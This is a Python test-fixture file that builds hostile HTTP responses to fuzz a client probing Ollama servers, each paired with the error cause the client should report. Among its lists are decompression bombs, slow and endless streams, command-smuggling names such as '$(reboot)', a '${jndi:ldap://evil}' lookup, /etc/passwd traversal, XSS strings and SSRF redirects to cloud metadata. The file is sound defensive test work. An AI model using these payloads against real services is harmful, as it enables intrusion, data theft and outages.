"""Hostile answers: what a server may send in the place of Ollama's, and the cause that must come of it.

Each case is one node: what it answers to each of the four requests. What is not named here it answers well.
"""

import gzip
import json
import struct
import zlib
from collections.abc import Callable, Iterator, Mapping
from typing import Any

from msgspec import Struct

from gpu_mesh.domain.causes import Cause

TAGS, PS, VERSION, GENERATE = "/api/tags", "/api/ps", "/api/version", "/api/generate"
OK = b"HTTP/1.1 200 OK\r\n"
CHUNKED = OK + b"Transfer-Encoding: chunked\r\n\r\n"
LIST = b'{"models":[{"name":"llama3.2:latest"}]}'
NOT_OLLAMA, HTTP_ERROR, TIMEOUT = Cause.NOT_OLLAMA, Cause.HTTP_ERROR, Cause.TIMEOUT


class Said(Struct, frozen=True):
    """What is sent: the bytes; then the piece again and again, if there is one; then the connection ends."""

    first: bytes
    piece: bytes = b""
    pause: float = 0.0  # seconds between two pieces
    holds: bool = False  # the connection stays open instead, and nothing more comes


Answers = Mapping[str, Callable[[], Said]]


class Case(Struct, frozen=True):
    """One hostile node."""

    name: str
    answers: Answers  # by path; made when they are asked for, for some are large
    cause: Cause | None  # None: nothing is wrong with the node
    slow: bool = False  # it shows only at the end of the time that the node has
    heavy: bool = False  # much is sent, several times over: for make soak alone


def framed(body: bytes, head: bytes = b"") -> bytes:
    return OK + head + b"Connection: close\r\nContent-Length: %d\r\n\r\n" % len(body) + body


def as_json(value: object) -> bytes:
    return framed(json.dumps(value).encode())


def chunks(*pieces: bytes) -> bytes:
    return b"".join(b"%x\r\n%b\r\n" % (len(piece), piece) for piece in pieces) + b"0\r\n\r\n"


def told(said: bytes | Said | Callable[[], bytes]) -> Callable[[], Said]:
    if isinstance(said, Said):
        return lambda: said
    return (lambda: Said(said())) if callable(said) else (lambda: Said(said))


STATUS_LINES: dict[str, tuple[bytes, Cause | None]] = {
    "nothing": (b"", HTTP_ERROR),
    "an empty line": (b"\r\n\r\n", NOT_OLLAMA),
    "a banner of ssh": (b"SSH-2.0-OpenSSH_9.2p1 Debian-2\r\n", NOT_OLLAMA),
    "a banner of smtp": (b"220 mail.example ESMTP Postfix\r\n", NOT_OLLAMA),
    "a banner of ftp": (b"220 (vsFTPd 3.0.5)\r\n", NOT_OLLAMA),
    "an error of redis": (b"-ERR unknown command 'GET'\r\n", NOT_OLLAMA),
    "a greeting of mysql": (b"J\x00\x00\x00\n8.0.36\x00" + b"\x01" * 60, NOT_OLLAMA),
    "an alert of TLS": (b"\x15\x03\x01\x00\x02\x02\x16", NOT_OLLAMA),
    "a hello of TLS": (b"\x16\x03\x03\x00\x7a\x02\x00\x00\x76" + b"\x00" * 118, NOT_OLLAMA),
    "a preface of HTTP/2": (b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", NOT_OLLAMA),
    "settings of HTTP/2": (b"\x00\x00\x12\x04\x00\x00\x00\x00\x00" + b"\x00" * 18, NOT_OLLAMA),
    "HTTP/0.9": (LIST, NOT_OLLAMA),
    "a page of HTTP/0.9": (b"<html><title>It works</title></html>\n", NOT_OLLAMA),
    "HTTP/2 in words": (b"HTTP/2 200 OK\r\n\r\n" + LIST, NOT_OLLAMA),
    "HTTP/3.0": (b"HTTP/3.0 200 OK\r\n\r\n" + LIST, NOT_OLLAMA),
    "HTTP/9.9": (b"HTTP/9.9 200 OK\r\n\r\n" + LIST, NOT_OLLAMA),
    "ICY": (b"ICY 200 OK\r\n\r\n" + LIST, NOT_OLLAMA),
    "RTSP": (b"RTSP/1.0 200 OK\r\n\r\n", NOT_OLLAMA),
    "a request": (b"GET / HTTP/1.1\r\nHost: you\r\n\r\n", NOT_OLLAMA),
    "a status in words": (b"HTTP/1.1 banana\r\n\r\n", NOT_OLLAMA),
    "no status": (b"HTTP/1.1\r\n\r\n", NOT_OLLAMA),
    "a status of two digits": (b"HTTP/1.1 20 OK\r\n\r\n", NOT_OLLAMA),
    "a status of four digits": (b"HTTP/1.1 2000 OK\r\n\r\n", NOT_OLLAMA),
    "a status of a thousand digits": (b"HTTP/1.1 " + b"2" * 1000 + b" OK\r\n\r\n", NOT_OLLAMA),
    "a negative status": (b"HTTP/1.1 -200 OK\r\n\r\n", NOT_OLLAMA),
    "a status of nothing": (b"HTTP/1.1 000 No\r\n\r\n", NOT_OLLAMA),
    "a status of 999": (b"HTTP/1.1 999 Denied\r\n\r\n", HTTP_ERROR),
    "a status of 600": (b"HTTP/1.1 600 What\r\n\r\n", HTTP_ERROR),
    "a status of digits of another script": (b"HTTP/1.1 \xd9\xa2\xd9\xa0\xd9\xa0 OK\r\n\r\n", NOT_OLLAMA),
    "a status with an underscore": (b"HTTP/1.1 2_0 OK\r\n\r\n", NOT_OLLAMA),
    "a phrase with a terminal sequence": (b"HTTP/1.1 500 \x1b[2J\x1b]0;owned\x07\r\n\r\n", HTTP_ERROR),
    "a phrase of markup": (b"HTTP/1.1 500 <!channel> [x](http://evil.example)\r\n\r\n", HTTP_ERROR),
    "a phrase without end": (b"HTTP/1.1 200 " + b"x" * 200_000, NOT_OLLAMA),
    "a line without end": (b"x" * 200_000, NOT_OLLAMA),
    "a line of NULs": (b"\x00" * 70_000, NOT_OLLAMA),
    "a line of line feeds": (b"\n" * 70_000, NOT_OLLAMA),
    "lines that end in CR": (b"HTTP/1.1 200 OK\r\r" + LIST, NOT_OLLAMA),
    "a word in UTF-16": ("HTTP/1.1 200 OK\r\n\r\n".encode("utf-16"), NOT_OLLAMA),
    "a mark before the answer": (b"\xef\xbb\xbf" + framed(LIST), NOT_OLLAMA),
    "a gzip file": (gzip.compress(framed(LIST)), NOT_OLLAMA),
    "half a status line": (b"HTTP/1.1 20", NOT_OLLAMA),
    "lines that end in LF": (b"HTTP/1.1 200 OK\nContent-Length: %d\n\n" % len(LIST) + LIST, None),
    "HTTP/1.0 without a length": (b"HTTP/1.0 200 OK\r\n\r\n" + LIST, None),
}

CODES = {
    **dict.fromkeys((201, 202, 203, 205, 206, 226), None),
    **dict.fromkeys((204, 300, 304, 305, 306, 310, 399), NOT_OLLAMA),
    **dict.fromkeys((401, 403), Cause.FORBIDDEN),
    429: Cause.RATE_LIMITED,
    **dict.fromkeys((400, 402, 404, 405, 407, 408, 410, 418, 421, 451, 499), NOT_OLLAMA),
    **dict.fromkeys((500, 501, 502, 503, 504, 507, 511, 520, 599), HTTP_ERROR),
}

LOCATIONS = [
    b"/api/tags", b"", b"//evil.example/api/tags", b"https://evil.example/", b"http://127.0.0.1:22/",
    b"http://169.254.169.254/latest/meta-data/", b"file:///etc/passwd", b"gopher://evil.example/_x",
    b"javascript:alert(1)", b"http://ops:secret@evil.example/", b"http://[::1", b"http://[", b"http://a:b:c/",
    b"http://evil.example:99999999/", b"\xff\xfe\xfd", b"http://\xe2\x80\xae.example/", b"x" * 60_000,
    b"http://evil.example/\x1b[2J", b"@channel <!channel> [reset](http://evil.example)",
    b"http://xn--/", b"http://" + b"a." * 500, b"http://evil.example\\@good.example/", b"{{ 7 * 7 }}",
    b"http://evil.example/%0d%0aSet-Cookie:%20a=b",
]  # fmt: skip

# Of a 200; the body is LIST.
LENGTHS: dict[str, tuple[bytes, Cause | None]] = {
    "a negative length": (b"Content-Length: -1", None),
    "a length of two to the 64th": (b"Content-Length: 18446744073709551616", NOT_OLLAMA),
    "a length of 3000 digits": (b"Content-Length: " + b"9" * 3000, NOT_OLLAMA),
    "a length in hexadecimal": (b"Content-Length: 0x27", None),
    "a length in words": (b"Content-Length: many", None),
    "a length with a sign": (b"Content-Length: +39", None),
    "a length with an underscore": (b"Content-Length: 3_9", None),
    "a length that is a fraction": (b"Content-Length: 39.0", None),
    "an empty length": (b"Content-Length: ", None),
    "a length of another script": (b"Content-Length: \xd9\xa3\xd9\xa9", None),
    "lengths that differ": (b"Content-Length: 39\r\nContent-Length: 40", NOT_OLLAMA),
    "lengths that differ in one header": (b"Content-Length: 39, 40", NOT_OLLAMA),
    "a length twice": (b"Content-Length: 39, 39", None),
    "a hundred lengths": (b"Content-Length: " + b", ".join([b"39"] * 100), None),
    "a length that is too short": (b"Content-Length: 5", NOT_OLLAMA),
    "a length that is too long by one": (b"Content-Length: 40", HTTP_ERROR),
    "a length that is too long": (b"Content-Length: 4000000", HTTP_ERROR),
    "a length of nothing": (b"Content-Length: 0", NOT_OLLAMA),
    "a length of 2 GiB": (b"Content-Length: 2147483648", NOT_OLLAMA),
    "a length and chunks": (b"Content-Length: 39\r\nTransfer-Encoding: chunked", HTTP_ERROR),
    "gzip as the transfer's encoding": (b"Transfer-Encoding: gzip", None),
    "identity as the transfer's encoding": (b"Transfer-Encoding: identity", None),
    "an unknown encoding of the transfer": (b"Transfer-Encoding: \x0bchunked", None),
    "chunked that is none": (b"Transfer-Encoding: chunked", HTTP_ERROR),
    "chunked in another case": (b"transfer-encoding: CHUNKED", HTTP_ERROR),
}

ENCODINGS = [b"gzip", b"deflate", b"br", b"zstd", b"compress", b"gzip, gzip, gzip", b"x-gzip", b"\x1b[31m"]
PACKED: dict[str, bytes] = {
    "gzip": gzip.compress(LIST),
    "deflate": zlib.compress(LIST),
    "a broken gzip": gzip.compress(LIST)[:-9] + b"xxxxxxxxx",
    "half a gzip": gzip.compress(LIST * 50)[:30],
    "a bomb of gzip": gzip.compress(b" " * 2**22) * 8,
    "a bomb in a bomb": gzip.compress(gzip.compress(b" " * 2**22)),
    "a bomb of deflate": zlib.compress(b" " * 2**24),
}

# After a head that says chunked.
FRAMES: dict[str, tuple[bytes, Cause | None]] = {
    "a chunk of a negative size": (b"-5\r\nhello\r\n0\r\n\r\n", NOT_OLLAMA),
    "a chunk of a negative size in hexadecimal": (b"-0x5\r\nhello\r\n0\r\n\r\n", NOT_OLLAMA),
    "a chunk of minus nothing": (b"-0\r\n\r\n" + LIST, NOT_OLLAMA),
    "a chunk of a huge negative size": (b"-%b\r\nx" % (b"f" * 40), NOT_OLLAMA),
    "a chunk of 2 GiB": (b"80000000\r\n" + LIST, HTTP_ERROR),
    "a chunk of a huge size": (b"f" * 16 + b"\r\n" + LIST, HTTP_ERROR),
    "a chunk of a size of 4000 digits": (b"f" * 4000 + b"\r\n" + LIST, HTTP_ERROR),
    "a chunk of a size in words": (b"many\r\n" + LIST, HTTP_ERROR),
    "a chunk of an empty size": (b"\r\n" + LIST, HTTP_ERROR),
    "a chunk of a size with 0x": (b"0x27\r\n" + LIST + b"\r\n0\r\n\r\n", None),
    "a chunk of a size with a sign": (b"+27\r\n" + LIST + b"\r\n0\r\n\r\n", None),
    "a chunk of a size with an underscore": (b"2_7\r\n" + LIST + b"\r\n0\r\n\r\n", None),
    "a chunk of a size with spaces": (b"  27  \r\n" + LIST + b"\r\n0\r\n\r\n", None),
    "a chunk of NULs": (b"\x00\x00\r\n" + LIST, HTTP_ERROR),
    "a chunk that is too short": (b"5\r\n" + LIST + b"\r\n0\r\n\r\n", HTTP_ERROR),
    "a chunk that is too long": (b"28\r\n" + LIST, HTTP_ERROR),
    "a chunk without its end": (b"27\r\n" + LIST, HTTP_ERROR),
    "chunks without a last one": (b"27\r\n" + LIST + b"\r\n", HTTP_ERROR),
    "chunks of one byte": (chunks(*(b"%c" % letter for letter in LIST)), None),
    "chunks with extensions": (b'27;a="b";c\r\n' + LIST + b"\r\n0;d\r\n\r\n", None),
    "an extension without end": (b"27;" + b"x" * 5_000_000, NOT_OLLAMA),
    "trailers": (b"27\r\n" + LIST + b"\r\n0\r\nContent-Length: 5\r\nX: y\r\n\r\n", None),
    "a million trailers": (b"27\r\n" + LIST + b"\r\n0\r\n" + b"X: y\r\n" * 900_000, NOT_OLLAMA),
    "chunks of nothing": (b"0\r\n\r\n", NOT_OLLAMA),
    "nothing after the head": (b"", HTTP_ERROR),
    "a second answer": (chunks(LIST) + framed(b"evil"), None),
}

HEADS: dict[str, tuple[bytes, Cause | None]] = {
    "a header without a name": (b": x\r\n", None),
    "a header without a colon": (b"nonsense\r\n", None),
    "a header of NULs": (b"X\x00Y: \x00\r\n", None),
    "a header that is folded": (b"X: a\r\n b\r\n\tc\r\n", None),
    "a header with a space before its colon": (b"Content-Type : text/html\r\n", None),
    "a header of bytes that are no text": (b"\xff\xfe: \xff\r\n", None),
    "a header line without end": (b"X: " + b"x" * 100_000 + b"\r\n", NOT_OLLAMA),
    "a hundred headers and more": (b"X: y\r\n" * 150, NOT_OLLAMA),
    "ninety headers": (b"X: y\r\n" * 90, None),
    "cookies": (b"Set-Cookie: a=" + b"x" * 500 + b"; Domain=..; Expires=never\r\n" * 60, None),
    "a cookie of nonsense": (b"Set-Cookie: =;\xff;;; Path=\x00; Max-Age=1e999; Version=\x01\r\n", None),
    "a date of nonsense": (b"Date: Thu, 99 Foo 99999999999 99:99:99 +9999\r\n", None),
    "a date before all dates": (b"Date: Mon, 01 Jan 0001 00:00:00 GMT\r\n", None),
    "a date with a zone without end": (b"Date: Mon, 01 Jan 2024 00:00:00 +" + b"9" * 500 + b"\r\n", None),
    "a charset that does not exist": (b"Content-Type: application/json; charset=hunter2\r\n", None),
    "a charset that decodes": (b"Content-Type: application/json; charset=zlib_codec\r\n", None),
    "a type of nonsense": (b"Content-Type: \x1b[2J;;;==;\r\n", None),
    "an upgrade": (b"Upgrade: h2c\r\nConnection: Upgrade\r\n", None),
    "a connection of nonsense": (b"Connection: \xff, close, x\r\nKeep-Alive: timeout=-1\r\n", None),
    "a link": (b"Link: <http://evil.example>; rel=next; x\r\n", None),
    "a refresh": (b"Refresh: 0; url=http://evil.example\r\nContent-Location: http://evil.example\r\n", None),
    "an alternative service": (b'Alt-Svc: h3="evil.example:443"\r\n', None),
    "a login that is asked for": (b'WWW-Authenticate: Basic realm="\x1b[2J"\r\n', None),
}  # fmt: skip

INTERIM: dict[str, tuple[bytes, Cause | None]] = {
    "a continue": (b"HTTP/1.1 100 Continue\r\n\r\n", None),
    "ten of them": (b"HTTP/1.1 100 Continue\r\n\r\n" * 10, None),
    "many of them": (b"HTTP/1.1 100 Continue\r\n\r\n" * 1000, None),
    "a flood of them": (b"HTTP/1.1 100 Continue\r\n\r\n" * 200_000, NOT_OLLAMA),
    "one of many headers": (b"HTTP/1.1 100 Continue\r\n" + b"X: y\r\n" * 900_000, NOT_OLLAMA),
    "early hints": (b"HTTP/1.1 103 Early Hints\r\nLink: </x>\r\n\r\n", NOT_OLLAMA),
    "processing": (b"HTTP/1.1 102 Processing\r\n\r\n", NOT_OLLAMA),
    "switching protocols": (b"HTTP/1.1 101 Switching Protocols\r\nUpgrade: h2c\r\n\r\n", NOT_OLLAMA),
    "an interim answer of 199": (b"HTTP/1.1 199 Odd\r\n\r\n", NOT_OLLAMA),
}

# The bodies of a list of models that is none.
BODIES: dict[str, tuple[bytes | Callable[[], bytes], Cause | None]] = {
    "nothing": (b"", NOT_OLLAMA),
    "a space": (b" ", NOT_OLLAMA),
    "a NUL": (b"\x00", NOT_OLLAMA),
    "half a list": (LIST[:20], NOT_OLLAMA),
    "two lists": (LIST + LIST, NOT_OLLAMA),
    "a list and a word": (LIST + b"x", NOT_OLLAMA),
    "lines of JSON": (LIST + b"\n" + LIST, NOT_OLLAMA),
    "events": (b"data: " + LIST + b"\n\n", NOT_OLLAMA),
    "a page": (b"<!DOCTYPE html><script>alert(1)</script>", NOT_OLLAMA),
    "XML": (b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "b">]><x>&a;</x>', NOT_OLLAMA),
    "a template": (b"{{ 7 * 7 }}", NOT_OLLAMA),
    "null": (b"null", NOT_OLLAMA),
    "true": (b"true", NOT_OLLAMA),
    "a number": (b"7", NOT_OLLAMA),
    "a number without end": (b"9" * 100_000, NOT_OLLAMA),
    "1e999": (b"1e999", NOT_OLLAMA),
    "NaN": (b"NaN", NOT_OLLAMA),
    "Infinity": (b'{"models":Infinity}', NOT_OLLAMA),
    "a word": (b'"models"', NOT_OLLAMA),
    "an array": (b"[]", NOT_OLLAMA),
    "an object without models": (b'{"error":"this is another service"}', NOT_OLLAMA),
    "single quotes": (LIST.replace(b'"', b"'"), NOT_OLLAMA),
    "a comma too many": (b'{"models":[],}', NOT_OLLAMA),
    "a comment": (b'{"models":[]/* x */}', NOT_OLLAMA),
    "a key without quotes": (b"{models:[]}", NOT_OLLAMA),
    "a mark of the byte order": (b"\xef\xbb\xbf" + LIST, NOT_OLLAMA),
    "UTF-16": (LIST.decode().encode("utf-16"), NOT_OLLAMA),
    "UTF-32": (LIST.decode().encode("utf-32"), NOT_OLLAMA),
    "bytes that are no text": (b'{"models":[{"name":"\xff\xfe"}]}', NOT_OLLAMA),
    "an overlong slash": (b'{"models":[{"name":"\xc0\xaf"}]}', NOT_OLLAMA),
    "a surrogate as bytes": (b'{"models":[{"name":"\xed\xa0\x80"}]}', NOT_OLLAMA),
    "half a surrogate": (b'{"models":[{"name":"\\ud800"}]}', NOT_OLLAMA),
    "surrogates in the wrong order": (b'{"models":[{"name":"\\udc00\\ud800"}]}', NOT_OLLAMA),
    "half an escape": (b'{"models":[{"name":"\\u12"}]}', NOT_OLLAMA),
    "a line break in a text": (b'{"models":[{"name":"a\nb"}]}', NOT_OLLAMA),
    "50,000 brackets": (b'{"models":null,"x":' + b"[" * 50_000 + b"]" * 50_000 + b"}", NOT_OLLAMA),
    "50,000 objects": (b'{"a":' * 50_000 + b"1" + b"}" * 50_000, NOT_OLLAMA),
    "brackets that never close": (b"[" * 1_000_000, NOT_OLLAMA),
    "brackets that only close": (b"]" * 1_000_000, NOT_OLLAMA),
    "33 brackets": (b'{"models":null,"x":' + b"[" * 33 + b"]" * 33 + b"}", NOT_OLLAMA),
    "20 brackets": (b'{"models":[],"x":' + b"[" * 20 + b"]" * 20 + b"}", None),
    "brackets in a text": (json.dumps({"models": [{"name": "[" * 400}]}).encode(), NOT_OLLAMA),
    "models twice, the last one wrong": (b'{"models":[],"models":7}', NOT_OLLAMA),
    "models twice": (b'{"models":[{"name":"a"}],"models":[]}', None),
    "a name twice": (b'{"models":[{"name":"a","name":"b"}]}', None),
    "a list in many keys": (lambda: b"{" + b'"k":1,' * 200_000 + LIST[1:], None),
    "a hundred thousand models": (lambda: as_list({"name": f"m{n}"} for n in range(100_000)), NOT_OLLAMA),
    "forty thousand models": (lambda: as_list({"name": f"m{n}"} for n in range(40_000)), None),
    "a name of 4 MB": (lambda: as_list([{"name": "x" * 4_000_000}]), None),
    "a body of more than 4 MiB": (lambda: b" " * (4 * 2**20) + LIST, NOT_OLLAMA),
    "a prototype": (b'{"models":[],"__proto__":{"x":1},"__class__":"os.system"}', None),
    "an empty list": (b'{"models":[]}', None),
    "a list of null": (b'{"models":null}', None),
    "a list of nulls": (b'{"models":[null]}', NOT_OLLAMA),
    "a list of lists": (b'{"models":[[]]}', NOT_OLLAMA),
    "a list of words": (b'{"models":["a"]}', NOT_OLLAMA),
    "a list that is an object": (b'{"models":{"a":1}}', NOT_OLLAMA),
    "a list that is a word": (b'{"models":"a"}', NOT_OLLAMA),
    "a list that is a number": (b'{"models":1e308}', NOT_OLLAMA),
}  # fmt: skip

WRONG: list[object] = [7, -1, 1.5, True, [], {}, ["a"], {"a": 1}]
"""In the place of a text."""

NAMES = [
    "\x1b[31mred\x1b[0m", "\x1b]0;owned\x07", "\x9b2J", "a\r\nb", "a\nCRITICAL: b", "\u2028a\u2029b",
    "\u202egnp.exe", "\u2066a\u2069", "a\u200bb", "\ufeffa", "\x00", "\x7f", "\u00ad", "\U000e0041", "\ue000",
    "e" + "\u0301" * 500, "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "&lt;b&gt;", "]]>",
    "[click](http://evil.example)", "![x](http://evil.example/x.png)", "**bold** _it_ `code`", "# Head",
    "|a|b|", "<!channel>", "@everyone", "<@U123>", "{{ 7 * 7 }}", "{% include '/etc/passwd' %}", "${jndi:ldap://evil}",
    "%s%n%d", "{0.__class__}", "$(reboot)", "`reboot`", "; reboot", "../../etc/passwd", "a" * 5000,
    "-rf", "'\"\\",
    "http://evil.example/", "name=x status=healthy", "\t\v\f", "NaN", "null", " ", "\u3164", "\u0600\u0601",
]  # fmt: skip
"""Of models. Each is that of a model that runs on the CPU, so that people are shown it."""

TIMES = [
    "", "never", "0001-01-01T00:00:00Z", "9999-12-31T23:59:59+00:00", "9999-12-31T23:59:59-23:59",
    "0001-01-01T00:00:00+23:59", "2030-13-45T99:99:99Z", "1e999", "-1",
    "2030-01-01T00:00:00." + "9" * 1000 + "Z",
    "2030-01-01", "20300101T000000Z", "2030-W01-1", "\x1b[2J", "x" * 5000, "2030-01-01T00:00:00+99:99",
]  # fmt: skip

NUMBERS = [
    "-1",
    "-1e308",
    "1e308",
    "1e999",
    "9" * 400,
    "0.5",
    "-0",
    "1e-400",
    "NaN",
    "true",
    '"8"',
    "null",
    "[]",
]
"""In the place of a size, as JSON."""
NO_VRAM = ["-1", "-1e308", "0.5", "-0", "1e-400", "null"]

GPU = {"size": 9, "size_vram": 9, "expires_at": "2999-01-01T00:00:00Z"}


def as_list(models: Any) -> bytes:
    return json.dumps({"models": list(models)}).encode()


def running(**entry: object) -> bytes:
    return as_json({"models": [{"name": "a", **GPU, **entry}]})


def with_number(field: str, number: str) -> bytes:
    entry = json.dumps({"name": "a", **GPU, field: 0}).replace(f'"{field}": 0', f'"{field}": {number}')
    return framed(b'{"models":[' + entry.encode() + b"]}")


SLOW: dict[str, tuple[Said, Cause | None]] = {
    "nothing for ever": (Said(b"", holds=True), TIMEOUT),
    "half a status line for ever": (Said(b"HTTP/1.1 2", holds=True), TIMEOUT),
    "a head for ever": (Said(OK, holds=True), TIMEOUT),
    "half a body for ever": (Said(OK + b"Content-Length: 39\r\n\r\n" + LIST[:9], holds=True), TIMEOUT),
    "half a chunk for ever": (Said(CHUNKED + b"27\r\n" + LIST[:9], holds=True), TIMEOUT),
    "a body without a length for ever": (Said(OK + b"\r\n" + LIST, holds=True), TIMEOUT),
    "a byte of a status line at a time": (Said(b"", b"H", 0.1), TIMEOUT),
    "a byte of a header at a time": (Said(OK + b"X: ", b"x", 0.1), TIMEOUT),
    "a header at a time": (Said(OK, b"X: y\r\n", 0.1), TIMEOUT),
    "a continue at a time": (Said(b"", b"HTTP/1.1 100 Continue\r\n\r\n", 0.1), TIMEOUT),
    "a byte of a body at a time": (Said(OK + b"\r\n", b" ", 0.1), TIMEOUT),
    "a chunk at a time": (Said(CHUNKED, b"1\r\n \r\n", 0.1), TIMEOUT),
    "a byte of a chunk's extension at a time": (Said(CHUNKED + b"1;", b"x", 0.1), TIMEOUT),
    "a trailer at a time": (Said(CHUNKED + chunks(LIST)[:-2], b"X: y\r\n", 0.1), TIMEOUT),
}
ENDLESS: dict[str, Said] = {
    "a status line": Said(b"HTTP/1.1 200 ", b"x" * 65_536),
    "a header line": Said(OK + b"X: ", b"x" * 65_536),
    "headers": Said(OK, b"X: y\r\n" * 10_000),
    "continues": Said(b"", b"HTTP/1.1 100 Continue\r\n\r\n" * 3_000),
    "a body": Said(OK + b"\r\n", b" " * 65_536),
    "chunks": Said(CHUNKED, b"10000\r\n" + b" " * 65_536 + b"\r\n"),
    "chunks of one byte": Said(CHUNKED, b"1\r\n \r\n" * 10_000),
    "a chunk's extension": Said(CHUNKED + b"1;", b"x" * 65_536),
    "trailers": Said(CHUNKED + chunks(LIST)[:-2], b"X: y\r\n" * 10_000),
    "NULs": Said(b"", b"\x00" * 65_536),
    "chance": Said(b"", struct.pack("256B", *(7 * n % 256 for n in range(256))) * 256),
}


_Answer = tuple[str, bytes | Said | Callable[[], bytes], Cause | None]


def _of_http() -> Iterator[_Answer]:
    """Yield what is said in the place of the list of models: wrong as HTTP."""
    for name, (said, cause) in STATUS_LINES.items():
        yield f"status line: {name}", said, cause
    for code, cause in CODES.items():
        yield f"status: {code}", b"HTTP/1.1 %d \x1b[31m\r\nConnection: close\r\n\r\n" % code + LIST, cause
    for where in LOCATIONS:
        yield f"redirect: {where[:40]!r}", b"HTTP/1.1 302 x\r\nLocation: " + where + b"\r\n\r\n", NOT_OLLAMA
    for code in (301, 303, 307, 308):
        yield f"redirect: {code}", b"HTTP/1.1 %d x\r\nLocation: /api/tags\r\n\r\n" % code, NOT_OLLAMA
    yield "redirect: two places", b"HTTP/1.1 302 x\r\nLocation: /a\r\nLocation: /b\r\n\r\n", NOT_OLLAMA
    for name, (line, cause) in LENGTHS.items():
        yield f"length: {name}", OK + line + b"\r\n\r\n" + LIST, cause
    for name, body in PACKED.items():
        yield f"packed: {name}", framed(body, b"Content-Encoding: gzip\r\n"), NOT_OLLAMA
        yield f"packed in secret: {name}", framed(body), NOT_OLLAMA
    for encoding in ENCODINGS:
        head = b"Content-Encoding: " + encoding + b"\r\n"
        yield f"packed as {encoding!r}", framed(LIST, head), NOT_OLLAMA
    for name, (frames, cause) in FRAMES.items():
        yield f"chunks: {name}", CHUNKED + frames, cause
    for name, (head, cause) in HEADS.items():
        yield f"head: {name}", framed(LIST, head), cause
    for name, (head, cause) in INTERIM.items():
        yield f"interim: {name}", head + framed(LIST), cause


def _of_the_list() -> Iterator[_Answer]:
    """Yield what is said in the place of the list of models: wrong as that list."""
    for name, (said, cause) in BODIES.items():
        yield f"body: {name}", (lambda said=said: framed(said() if callable(said) else said)), cause
    for name, endless in ENDLESS.items():
        yield f"endless: {name}", endless, NOT_OLLAMA
    for wrong in WRONG:
        for field in ("name", "model", "remote_host", "remote_model"):
            yield f"list: {field} is {wrong!r}", as_json({"models": [{field: wrong}]}), NOT_OLLAMA
    for odd in (7, "completion", {"a": 1}, [7], [None], [[]]):
        yield (
            f"list: capabilities are {odd!r}",
            as_json({"models": [{"name": "a", "capabilities": odd}]}),
            None,
        )


def _cases() -> Iterator[Case]:
    for name, said, cause in (*_of_http(), *_of_the_list()):
        yield Case(name, {TAGS: told(said)}, cause)
    for name, (slow, cause) in SLOW.items():
        yield Case(f"slow: {name}", {TAGS: told(slow)}, cause, slow=True)
    for text in NAMES:
        on_cpu = as_json({"models": [{"name": text, "size": 9, "size_vram": 0}]})
        both = {TAGS: told(as_json({"models": [{"name": text}]})), PS: told(on_cpu)}
        yield Case(f"model: {text[:30]!r}", both, Cause.CPU_FALLBACK)
    for time in TIMES:
        yield Case(f"expires: {time[:30]!r}", {PS: told(running(expires_at=time))}, None)
    for number in NUMBERS:
        for field in ("size", "size_vram", "context_length"):
            cause = Cause.CPU_FALLBACK if field == "size_vram" and number in NO_VRAM else None
            yield Case(f"running: {field} is {number[:20]}", {PS: told(with_number(field, number))}, cause)
    for wrong in WRONG:
        yield Case(f"running: name is {wrong!r}", {PS: told(as_json({"models": [{"name": wrong}]}))}, None)
        yield Case(f"version is {wrong!r}", {VERSION: told(as_json({"version": wrong}))}, None)
        yield Case(f"done is {wrong!r}", {GENERATE: told(as_json({"done": wrong}))}, None)
    for text in NAMES[:12]:
        yield Case(f"version is {text[:30]!r}", {VERSION: told(as_json({"version": text}))}, None)
    for name, endless in ENDLESS.items():
        others = {path: told(endless) for path in (PS, VERSION, GENERATE)}
        yield Case(f"endless, but for the list: {name}", others, None, heavy=True)


CASES = tuple(_cases())
